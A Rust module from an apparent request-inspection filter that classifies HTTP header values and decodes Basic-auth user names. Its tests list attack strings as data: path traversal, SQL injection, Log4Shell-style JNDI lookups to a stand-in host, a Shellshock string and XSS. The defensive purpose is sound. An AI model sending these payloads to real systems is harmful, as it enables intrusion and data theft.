//! Header fields with a grammar of their own. What follows the grammar holds nothing but tokens, and only its quoted
//! strings are judged; what does not is judged whole. Every application logs some of them, and some look them up.

use base64::Engine as _;
use base64::alphabet::STANDARD;
use base64::engine::{DecodePaddingMode, GeneralPurpose, GeneralPurposeConfig};

static LENIENT: GeneralPurpose = GeneralPurpose::new(
    &STANDARD,
    GeneralPurposeConfig::new()
        .with_decode_padding_mode(DecodePaddingMode::Indifferent)
        .with_decode_allow_trailing_bits(true),
);

/// What of a header field is judged.
#[derive(Debug, PartialEq, Eq)]
pub(super) enum Judged<'v> {
    /// Nothing: it is what its grammar says.
    Nothing,
    /// The value.
    Whole,
    /// Texts in it.
    Texts(Vec<&'v [u8]>),
    /// The user name of basic authentication.
    User(Vec<u8>),
}

/// Fields that are lists of tokens, parameters and quoted strings. All that begin with `sec-` are, too.
const LISTS: [&str; 22] = [
    "accept",
    "accept-charset",
    "accept-encoding",
    "accept-language",
    "cache-control",
    "connection",
    "content-encoding",
    "content-length",
    "content-type",
    "dnt",
    "expect",
    "if-match",
    "if-none-match",
    "origin",
    "pragma",
    "priority",
    "range",
    "te",
    "transfer-encoding",
    "upgrade",
    "upgrade-insecure-requests",
    "x-requested-with",
];

/// What of a field is judged, by its name in lower case.
pub(super) fn judged<'v>(name: &str, value: &'v [u8]) -> Judged<'v> {
    match name {
        // The protocol door judges the host, and cookies are judged one by one.
        "host" | "cookie" => Judged::Nothing,
        "authorization" | "proxy-authorization" => credentials(value),
        "date" | "if-modified-since" | "if-unmodified-since" => match is_date(value) {
            true => Judged::Nothing,
            false => Judged::Whole,
        },
        "if-range" if is_date(value) => Judged::Nothing,
        "origin" if is_origin(value) => Judged::Nothing,
        _ if name == "if-range" || name.starts_with("sec-") || LISTS.contains(&name) => list(value),
        _ => Judged::Whole,
    }
}

fn is_date(value: &[u8]) -> bool {
    std::str::from_utf8(value).is_ok_and(|text| httpdate::parse_http_date(text).is_ok())
}

/// `null`, or a scheme, a host and a port (RFC 6454 §7).
fn is_origin(value: &[u8]) -> bool {
    let Some(at) = memchr::memmem::find(value, b"://") else { return value == b"null" };
    let (scheme, rest) = value.split_at_checked(at).unwrap_or_default();
    let host = rest.get(3..).unwrap_or_default();
    scheme.iter().all(|byte| byte.is_ascii_alphanumeric() || b"+-.".contains(byte))
        && host.iter().all(|byte| byte.is_ascii_alphanumeric() || b"-._:[]".contains(byte))
}

/// A scheme with a token or with parameters (RFC 9110 §11.4). Tokens are verified, not judged.
fn credentials(value: &[u8]) -> Judged<'_> {
    let end = memchr::memchr(b' ', value).unwrap_or(value.len());
    let (scheme, rest) = value.split_at_checked(end).unwrap_or_default();
    let rest = rest.trim_ascii();
    let is_token68 =
        |text: &[u8]| text.iter().all(|byte| byte.is_ascii_alphanumeric() || b"-._~+/=".contains(byte));
    if !is_token68(scheme) {
        return Judged::Whole;
    }
    if scheme.eq_ignore_ascii_case(b"basic") {
        // Lenient decoders skip what is not in the alphabet, and need no padding.
        let plain: Vec<u8> = rest
            .iter()
            .copied()
            .filter(|byte| byte.is_ascii_alphanumeric() || b"+/".contains(byte))
            .collect();
        let Ok(decoded) = LENIENT.decode(&plain) else { return Judged::Whole };
        let user = decoded.split(|byte| *byte == b':').next().unwrap_or_default();
        return Judged::User(user.to_vec());
    }
    if is_token68(rest) { Judged::Nothing } else { list(rest) }
}

/// A list of tokens, parameters, entity tags and quoted strings.
fn list(value: &[u8]) -> Judged<'_> {
    let mut texts = Vec::new();
    let mut rest = value;
    loop {
        rest = rest.trim_ascii_start();
        let end = rest.iter().position(|byte| !is_plain(*byte)).unwrap_or(rest.len());
        let (token, after) = rest.split_at_checked(end).unwrap_or_default();
        if !is_harmless(token) {
            return Judged::Whole;
        }
        rest = after;
        if let Some(quoted) = rest.strip_prefix(b"\"") {
            let Some(end) = memchr::memchr(b'"', quoted) else { return Judged::Whole };
            let (text, after) = quoted.split_at_checked(end).unwrap_or_default();
            // A word before a quoted string ends with `=`, or is an entity tag's.
            if !(token.is_empty() || token.ends_with(b"=") || token == b"W/") || text.contains(&b'\\') {
                return Judged::Whole;
            }
            if !text.iter().all(|byte| byte.is_ascii_alphanumeric() || b"._+/".contains(byte))
                || !is_harmless(text)
            {
                texts.push(text);
            }
            rest = after.get(1..).unwrap_or_default();
        }
        rest = rest.trim_ascii_start();
        match rest {
            [] if texts.is_empty() => return Judged::Nothing,
            [] => return Judged::Texts(texts),
            [b',' | b';', after @ ..] => rest = after,
            _ => return Judged::Whole,
        }
    }
}

/// What tokens, media types, entity tags and numbers are made of.
fn is_plain(byte: u8) -> bool {
    byte.is_ascii_alphanumeric() || b"-._~+*/=?".contains(&byte)
}

/// Whether a token holds none of the sequences that mean something to an interpreter.
fn is_harmless(token: &[u8]) -> bool {
    let has = |sequence: &[u8]| memchr::memmem::find(token, sequence).is_some();
    // `*/*` and `text/*` end so; anything behind it is a comment.
    let has_comment = || memchr::memmem::find(token, b"/*").is_some_and(|at| at + 2 < token.len());
    !(has(b"..") || has(b"--") || has(b"//") || token.starts_with(b"/") || has_comment())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn fields_that_follow_their_grammar_are_not_judged() {
        for (name, value) in [
            ("accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"),
            ("accept", "application/signed-exchange;v=b3;q=0.7, text/*"),
            ("accept-language", "de-CH, de;q=0.9, *;q=0.5"),
            ("accept-encoding", "gzip, deflate, br, zstd"),
            ("authorization", "Bearer eyJhbGciOiJIUzI1NiJ9.eyJpc3MiOiJodHRwOi8vbG9jYWxob3N0In0.a--b_c"),
            (
                "authorization",
                "AWS4-HMAC-SHA256 Credential=AKIA/20260101/eu-west-1/s3/aws4_request, SignedHeaders=host;range, Signature=fe5f",
            ),
            ("authorization", "Digest username=\"Mufasa\", qop=auth, nc=00000001"),
            ("cache-control", "max-age=0, private"),
            ("content-type", "multipart/form-data; boundary=\"ab\""),
            ("date", "Sun, 06 Nov 1994 08:49:37 GMT"),
            ("if-none-match", "W/\"33a64df5\", \"abc+/_.\", *"),
            ("if-range", "Sun, 06 Nov 1994 08:49:37 GMT"),
            ("origin", "https://shop.example:8443"),
            ("origin", "https://[::1]:8443"),
            ("priority", "u=1, i"),
            ("range", "bytes=0-499, 1000-"),
            ("sec-ch-ua-platform", "\"Windows\""),
            ("sec-websocket-extensions", "permessage-deflate; client_max_window_bits"),
            ("sec-websocket-key", "dGhlIHNhbXBsZSBub25jZQ=="),
            ("sec-fetch-site", "same-origin"),
        ] {
            assert_eq!(judged(name, value.as_bytes()), Judged::Nothing, "{name}: {value}");
        }
        let brands = b"\"Chromium\";v=\"118\", \"Not=A?Brand\";v=\"99\"";
        assert_eq!(judged("sec-ch-ua", brands), Judged::Texts(vec![b"Not=A?Brand"]));
    }

    #[test]
    fn fields_that_do_not_are_judged_whole() {
        for (name, value) in [
            ("accept", "../../../etc/passwd{{"),
            ("accept", "text/html/../../etc/passwd"),
            ("accept-language", "1/**/union/**/select/**/1"),
            ("accept-language", "en-${jndi:ldap://a.example/a}"),
            ("accept-language", "php://filter/resource=index"),
            ("accept-language", "en;/usr/bin/id"),
            ("x-requested-with", "file:///etc/passwd"),
            ("accept-language", "%3Csvg/onload=alert%601%60%3E"),
            ("origin", "https://a.example/<svg>"),
            ("authorization", "ApiKey x' union select 1-- "),
            ("cache-control", "() { :;}; /bin/id"),
            ("date", "${jndi:ldap://a.example/a}"),
            ("if-none-match", "\"unclosed"),
            ("origin", "https://a' or sleep(5)-- "),
            ("sec-gpc", "1' or sleep(5)-- "),
            ("x-request-id", "anything"),
        ] {
            assert_eq!(judged(name, value.as_bytes()), Judged::Whole, "{name}: {value}");
        }
        assert_eq!(judged("if-match", b"\"x' union\""), Judged::Texts(vec![b"x' union"]));
        assert_eq!(judged("if-match", b"\"1 union\""), Judged::Texts(vec![b"1 union"]));
        for value in ["Basic YSc6Yg==", "Basic YSc6Yg", "Basic !YSc6 Yg*="] {
            assert_eq!(judged("authorization", value.as_bytes()), Judged::User(b"a'".to_vec()), "{value}");
        }
    }
}
